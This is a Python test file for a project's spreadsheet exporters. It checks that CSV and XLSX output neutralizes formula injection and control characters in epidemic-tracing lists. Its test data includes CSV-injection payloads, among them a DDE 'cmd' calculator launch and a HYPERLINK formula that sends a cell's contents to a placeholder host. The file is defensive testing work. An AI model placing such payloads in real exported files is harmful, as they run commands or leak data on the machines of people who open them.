"""No CSV or XLSX the project writes carries a cell a spreadsheet would run, and no control
character in a name stops a writer (with the name in the error)."""
import csv
import io

import openpyxl
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from screenfuse.cell_safety import FORMULA_STARTS, for_csv, is_formula_like, neutralized_text, storable, write_csv
from screenfuse.policy import default_policy
from screenfuse.pushlist import TRACING_LIST, write_outbox, write_tracing_list
from screenfuse.xlsx import write_xlsx

POLICY = default_policy()
ATTACKS = ['=HYPERLINK("http://x.invalid/?q="&A1,"点")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "张\x07三", "\x01=1+1"]


def _items(texts):
    return pd.DataFrame([{
        "push_item_id": f"PI{k}", "street": "粮道街道", "community": text, "person_id": f"P{k}", "name": text,
        "id_number": "", "phone": text, "address": text, "status": "fever", "measure": "transfer_fever_clinic",
        "detail": text, "source_records": "h1", "due_at": "2020-02-10T16:30:00Z", "push_reason": "new_measure"}
        for k, text in enumerate(texts)])


def _csv_cells(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_no_formula(written):
    assert written
    for path in written:
        if path.suffix == ".csv":
            cells = _csv_cells(path)
            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path.name
        else:
            sheet = openpyxl.load_workbook(path).active
            cells = [c for row in sheet.iter_rows() for c in row]
            assert not [c for c in cells if c.data_type == "f"], path.name
            assert all(c.quotePrefix for c in cells if is_formula_like(c.value)), path.name
            assert not any(isinstance(c.value, str) and storable(c.value) != c.value for c in cells)


def test_push_lists_carry_hostile_names_as_text_only(tmp_path):
    written = write_outbox(_items(ATTACKS), tmp_path / "out", POLICY)
    _assert_no_formula(written)
    names = _csv_cells([p for p in written if p.suffix == ".csv"][0])
    assert "'=cmd|' /C calc'!A0" in names and "张三" in names  # readable: the text as typed, behind '
    sheet = openpyxl.load_workbook([p for p in written if p.suffix == ".xlsx"][0]).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "=cmd|' /C calc'!A0" in values and "张三" in values  # XLSX: as typed, marked as text


def test_tracing_list_is_safe_too(tmp_path):
    rows = pd.DataFrame({"push_item_id": ["PI1", "PI2"], "street": ["中华路街道"] * 2, "person_id": ["P1", "P2"],
                         "name": ["=1+1", "李\x0b四"], "id_number": ["", ""], "phone": ["+86 138", ""],
                         "address": ["@x", ""], "answered_at": ["2020-02-10T17:00:00Z"] * 2, "reason": ["查无此人"] * 2})
    write_tracing_list(rows, tmp_path, "Asia/Shanghai")
    _assert_no_formula([tmp_path / f"{TRACING_LIST}.csv", tmp_path / f"{TRACING_LIST}.xlsx"])


def test_dedupe_output_csv_is_safe(tmp_path):
    write_csv(pd.DataFrame({"=name": ATTACKS, "n": range(len(ATTACKS))}), tmp_path / "o.csv", encoding="utf-8")
    _assert_no_formula([tmp_path / "o.csv"])
    assert pd.read_csv(tmp_path / "o.csv")["n"].tolist() == list(range(len(ATTACKS)))  # numbers stay numbers


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_a_neutralized_cell_never_reads_as_a_formula_and_keeps_the_text(text):
    out = neutralized_text(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out == storable(text) or out == "'" + storable(text)
    assert storable(out) == out


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_any_text_writes_to_xlsx_and_reads_back(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("x") / "t.xlsx"
    write_xlsx(pd.DataFrame({"名": texts}), path)  # openpyxl raised on control characters
    sheet = openpyxl.load_workbook(path).active
    back = [c.value or "" for (c,) in sheet.iter_rows(min_row=2, max_col=1)]
    # (XML reads a carriage return back as a line feed)
    assert back == [storable(t).replace("\r\n", "\n").replace("\r", "\n") for t in texts]
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_for_csv_leaves_other_columns_and_missing_values_alone():
    frame = pd.DataFrame({"a": ["=1", None, "ok"], "n": [1.5, -2.0, 3.0]})
    out = for_csv(frame)
    assert out["a"].tolist()[0] == "'=1" and out["a"].isna().tolist() == [False, True, False]
    assert out["n"].tolist() == [1.5, -2.0, 3.0]
    assert io.StringIO(out.to_csv(index=False)).read().count("'") == 1
